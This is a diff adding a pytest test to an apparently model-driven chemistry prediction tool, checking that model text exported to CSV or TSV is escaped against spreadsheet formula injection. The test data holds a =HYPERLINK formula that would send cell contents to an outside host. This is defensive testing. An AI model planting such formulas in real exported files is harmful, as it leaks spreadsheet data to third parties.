@@ -74,6 +74,24 @@ def test_a_table_keeps_its_columns_its_order_and_its_bad_rows(
     assert not list(tmp_path.glob("*.partial*")), "nothing is left of a call that is done"
 
 
+@pytest.mark.parametrize(
+    ("suffix", "shown"), [(".csv", "'{}"), (".tsv", "'{}"), (".jsonl", "{}"), (".sdf", "{}")]
+)
+def test_a_models_text_is_no_formula_of_a_spreadsheet(
+    finished: RunFolder, fake: FakeVllm, tmp_path: Path, suffix: str, shown: str
+) -> None:
+    reason = '=HYPERLINK("http://elsewhere/"&A1,"two nitro groups")'
+    fake.script = lambda *_: f" {reason}\nMelting point (°C): -80"
+    table, out = tmp_path / "asked.csv", tmp_path / f"out{suffix}"
+    table.write_text("smiles,note\nCCO,=own\n", "utf-8")
+    assert run(finished, fake, "--table", table, "--out", out).exit_code == 0
+    [row] = read(out)
+    assert row["reason"] == shown.format(reason)
+    assert row["claims"] == "false: two nitro groups"
+    assert float(row["predicted"]) == -80
+    assert row["note"] == "=own", "the table's own cells come back as they were"
+
+
 def test_claims_are_marked(finished: RunFolder, fake: FakeVllm, tmp_path: Path) -> None:
     fake.script = lambda *_: " It has two nitro groups and a hydroxyl.\nMelting point (°C): 80"
     out = tmp_path / "out.jsonl"
